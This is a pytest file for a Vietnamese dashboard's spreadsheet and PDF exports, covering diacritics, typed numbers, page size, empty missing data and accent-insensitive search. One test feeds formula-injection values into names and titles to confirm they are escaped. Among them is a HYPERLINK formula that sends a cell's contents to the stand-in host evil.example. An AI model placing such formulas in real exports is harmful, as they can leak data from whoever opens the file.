"""The xlsx and PDF exports: Vietnamese headers and diacritics, numbers as numbers, no formula injection."""

from __future__ import annotations

import io
import unicodedata
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from exports import pdf, tables, xlsx
from metrics import api
from metrics.db import open_snapshot
from tests.dashboard.seed import SILENT_UNIT


@pytest.fixture()
def commune_ranking(dashboard_data_dir: Path) -> pd.DataFrame:
    con = open_snapshot(dashboard_data_dir / "snapshot.duckdb")
    try:
        return api.ranking(con, "province-it", "commune", "2026-10")
    finally:
        con.close()


def _pdf_text(data: bytes) -> str:
    """The PDF's text with line wraps folded into single spaces."""
    raw = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
    return " ".join(unicodedata.normalize("NFC", raw).split())


def test_ranking_xlsx_has_vietnamese_headers_and_typed_numbers(commune_ranking: pd.DataFrame) -> None:
    table = tables.ranking_table(commune_ranking, "vi", "Bảng xếp hạng — Xã, phường", "Bộ tiêu chí province-it")
    sheet = load_workbook(io.BytesIO(xlsx.workbook_bytes(table, "Xếp hạng"))).active
    assert sheet.title == "Xếp hạng"
    headers = [cell.value for cell in sheet[3]]
    assert headers[:6] == ["Hạng", "Thay đổi", "Mã đơn vị", "Tên đơn vị", "Chỉ số (%)", "Xếp loại"]
    rows = {row[2]: row for row in sheet.iter_rows(min_row=4, values_only=True)}
    assert len(rows) == 7
    silent = rows[SILENT_UNIT]
    expected = commune_ranking.set_index("unit_code").loc[SILENT_UNIT]
    assert isinstance(silent[0], int) and silent[0] == expected["rank"]
    assert isinstance(silent[4], float) and silent[4] == pytest.approx(expected["index_pct"])
    assert silent[3] == "Xã Gia Bình"
    assert silent[-1] == "Tạm tính — không có dữ liệu từ 05/10/2026 (Một cửa điện tử)"
    assert sheet.cell(row=4, column=5).number_format == "0.00"


def test_xlsx_never_holds_a_formula(commune_ranking: pd.DataFrame) -> None:
    hostile = commune_ranking.copy()
    hostile.loc[0, "name"] = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'
    hostile.loc[1, "name"] = "@SUM(A1:A9)"
    hostile.loc[2, "name"] = "-2+3"
    table = tables.ranking_table(hostile, "vi", "=1+1", "+tiêu đề")
    sheet = load_workbook(io.BytesIO(xlsx.workbook_bytes(table, "Xếp hạng"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"bấm\")" in texts
    assert "'@SUM(A1:A9)" in texts and "'-2+3" in texts and sheet["A1"].value == "'=1+1"
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@"))]


def test_ranking_pdf_is_a4_with_diacritics_intact(commune_ranking: pd.DataFrame) -> None:
    table = tables.ranking_table(commune_ranking, "vi", "Bảng xếp hạng ứng dụng CNTT — Xã, phường, đặc khu",
                                 "Bộ tiêu chí province-it")
    data = pdf.pdf_bytes(table, "vi")
    reader = PdfReader(io.BytesIO(data))
    width, height = float(reader.pages[0].mediabox.width), float(reader.pages[0].mediabox.height)
    assert (round(width), round(height)) == (842, 595)  # A4 landscape in points
    content = _pdf_text(data)
    for expected in ("Bảng xếp hạng ứng dụng CNTT — Xã, phường, đặc khu", "Xã Gia Bình", "Phường Đại Phúc",
                     "Xã Đông Cứu", "Tạm tính — không có dữ liệu từ 05/10/2026", "Xếp loại"):
        assert expected in content, expected
    fonts = {str(font) for page in reader.pages for font in page["/Resources"]["/Font"].values()}
    assert fonts


def test_unit_card_exports_keep_missing_data_empty(dashboard_data_dir: Path) -> None:
    con = open_snapshot(dashboard_data_dir / "snapshot.duckdb")
    try:
        metrics = api.unit_card(con, "province-it", SILENT_UNIT, "2026-10")
    finally:
        con.close()
    table = tables.unit_card_table(metrics, {"OS-01": "Tỷ lệ hồ sơ giải quyết trước hạn, đúng hạn"}, "vi",
                                   "Phiếu điểm: Xã Gia Bình — 10/2026", "Chỉ số 52,49")
    sheet = load_workbook(io.BytesIO(xlsx.workbook_bytes(table, "Phiếu điểm"))).active
    row = next(r for r in sheet.iter_rows(min_row=4, values_only=True) if r[0] == "OS-01")
    assert row[3] is None and row[6] is None  # no data stays empty, never 0
    assert row[-1] == "Không có dữ liệu"
    portrait = PdfReader(io.BytesIO(pdf.pdf_bytes(table, "vi", landscape=False))).pages[0].mediabox
    assert (round(float(portrait.width)), round(float(portrait.height))) == (595, 842)
    assert "Tỷ lệ hồ sơ giải quyết trước hạn, đúng hạn" in _pdf_text(pdf.pdf_bytes(table, "vi", landscape=False))


def test_search_folds_accents_and_d_stroke() -> None:
    frame = pd.DataFrame({"name": ["Sở Y tế", "Xã Đông Cứu", "Sở Tài chính"]})
    assert api.search_names(frame, "so y te")["name"].tolist() == ["Sở Y tế"]
    assert api.search_names(frame, "dong cuu")["name"].tolist() == ["Xã Đông Cứu"]
    decomposed = unicodedata.normalize("NFD", "Sở Tài chính")
    assert api.search_names(frame, decomposed)["name"].tolist() == ["Sở Tài chính"]
    assert api.search_names(frame, "  ")["name"].tolist() == frame["name"].tolist()
